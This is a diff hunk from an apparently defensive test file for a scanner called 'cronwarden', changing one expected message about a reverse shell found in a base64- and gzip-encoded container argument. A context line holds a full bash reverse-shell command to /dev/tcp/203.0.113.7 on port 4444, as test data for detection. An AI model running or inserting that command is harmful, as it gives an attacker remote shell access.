@@ -109,7 +109,7 @@ const says: readonly { situation: string; finding: Finding; expect: readonly Reg
     situation: 'a reverse shell names its container, place, layers and value',
     finding: reverseShell,
     expect: [
-      /sync › containers\[0\]\.args\[0\], decoded from base64, then gzip/,
+      /sync › containers\[0\]\.args\[0\], found under base64, then gzip/,
       /= bash -i >& \/dev\/tcp\/203\.0\.113\.7\/4444 0>&1/,
       /from 192\.0\.2\.14, claiming 198\.51\.100\.23/,
       /cronwarden explain command\.reverse-shell/,
